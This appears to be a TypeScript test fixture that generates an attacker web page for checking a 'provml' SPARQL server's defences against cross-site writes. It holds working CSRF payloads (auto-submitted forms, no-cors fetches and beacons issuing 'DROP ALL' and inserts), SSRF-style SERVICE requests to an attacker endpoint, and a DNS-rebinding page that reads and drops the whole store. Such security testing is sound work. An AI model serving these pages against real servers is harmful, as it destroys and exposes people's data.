// The page an attacker would serve: every write a web page can make to a provml server at `target` without
// help from the server (forms, no-cors fetches, beacons, images), plus the CORS requests the browser must
// stop at the preflight. It sets window.results and window.done when every attempt has settled.

export interface AttackPageOptions {
  /** Base URL of the provml server, e.g. http://127.0.0.1:7070. */
  target: string;
  /** A SPARQL endpoint on the attacker's server: SERVICE / source= would make provml fetch it. */
  canary: string;
  /** A named graph of the store that the writes aim at. */
  graph: string;
  /** A JSON array of valid capture events. */
  events: string;
}

const FORMS = (o: AttackPageOptions, g: string) => `
<form id="drop" method="POST" action="${o.target}/sparql" target="f-drop">
  <input name="update" value="DROP ALL">
</form>
<form id="insert" method="POST" action="${o.target}/sparql" target="f-insert">
  <input name="update" value="INSERT DATA { &lt;urn:x:form&gt; &lt;urn:x:p&gt; &quot;form&quot; }">
</form>
<form id="multipart" method="POST" enctype="multipart/form-data" action="${o.target}/store?graph=${g}" target="f-multipart">
  <input name="data" value="&lt;urn:x:m&gt; &lt;urn:x:p&gt; &quot;multipart&quot; .">
</form>
<form id="plain" method="POST" enctype="text/plain" action="${o.target}/api/v1/import?format=turtle" target="f-plain">
  <input name="&lt;urn:x:t&gt; &lt;urn:x:p&gt; &quot;" value="plain&quot; .">
</form>`;

/** The attacker's HTML. */
export function attackPage(o: AttackPageOptions): string {
  const g = encodeURIComponent(o.graph);
  const service = `SELECT * WHERE { SERVICE <${o.canary}> { ?s ?p ?o } }`;
  const script = `
const T = ${JSON.stringify(o.target)};
const EVENTS = ${JSON.stringify(o.events)};
const TTL = '<urn:x:f> <urn:x:p> "fetch" .';
const results = {};
const settle = (name, promise) =>
  promise.then((r) => { results[name] = r.type + ' ' + r.status; }, (e) => { results[name] = 'blocked ' + e.name; });
function submit(id) {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = 'f-' + id;
    frame.onload = () => { results['form ' + id] = 'submitted'; resolve(); };
    document.body.append(frame);
    document.getElementById(id).submit();
  });
}
function image(name, url) {
  return new Promise((resolve) => {
    const img = new Image();
    img.onload = img.onerror = () => { results[name] = 'loaded'; resolve(); };
    img.src = url;
  });
}
async function attack() {
  for (const id of ['drop', 'insert', 'multipart', 'plain']) await submit(id);
  const multipart = new FormData();
  multipart.append('file', new Blob([TTL], { type: 'text/turtle' }), 'x.ttl');
  await Promise.all([
    settle('no-cors form update', fetch(T + '/sparql', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ update: 'DROP ALL' }) })),
    settle('no-cors text/plain sparql', fetch(T + '/sparql', { method: 'POST', mode: 'no-cors', body: 'DROP ALL' })),
    settle('no-cors text/plain events', fetch(T + '/api/v1/events', { method: 'POST', mode: 'no-cors', body: EVENTS })),
    settle('no-cors text/plain lineage', fetch(T + '/api/v1/lineage', { method: 'POST', mode: 'no-cors', body: EVENTS })),
    settle('no-cors text/plain import', fetch(T + '/api/v1/import?format=turtle', { method: 'POST', mode: 'no-cors', body: TTL })),
    settle('no-cors multipart store', fetch(T + '/store?graph=${g}', { method: 'POST', mode: 'no-cors', body: multipart })),
    settle('cors sparql-update', fetch(T + '/sparql', { method: 'POST', headers: { 'content-type': 'application/sparql-update' }, body: 'DROP ALL' })),
    settle('cors PUT store', fetch(T + '/store?graph=${g}', { method: 'PUT', headers: { 'content-type': 'text/turtle' }, body: TTL })),
    settle('cors DELETE store', fetch(T + '/store?graph=${g}', { method: 'DELETE' })),
    settle('cors with a guessed token', fetch(T + '/sparql', { method: 'POST', headers: { authorization: 'Bearer guess', 'content-type': 'application/x-www-form-urlencoded' }, body: 'update=DROP%20ALL' })),
    image('image SERVICE', T + '/sparql?query=' + encodeURIComponent(${JSON.stringify(service)})),
    image('image catalog source', T + '/api/v1/queries/measure-per-epoch?measure=loss&source=' + encodeURIComponent(${JSON.stringify(o.canary)})),
  ]);
  results['beacon events'] = navigator.sendBeacon(T + '/api/v1/events', EVENTS);
  results['beacon import'] = navigator.sendBeacon(T + '/api/v1/import?format=turtle', TTL);
  window.results = results;
  window.done = true;
}
attack();`;
  return `<!doctype html><html><head><title>attacker</title></head><body>${FORMS(o, g)}<script>${script}</script></body></html>`;
}

/** A page that, once its name points at the provml server (DNS rebinding), reads and writes same-origin. */
export function reboundPage(): string {
  const script = `
async function attack() {
  const read = await fetch('/sparql?query=' + encodeURIComponent('SELECT * WHERE { ?s ?p ?o }'));
  const write = await fetch('/sparql', { method: 'POST', body: new URLSearchParams({ update: 'DROP ALL' }) });
  window.results = { read: read.status, readBody: await read.text(), write: write.status };
  window.done = true;
}
attack().catch((e) => { window.results = { error: String(e) }; window.done = true; });`;
  return `<!doctype html><html><body><script>${script}</script></body></html>`;
}
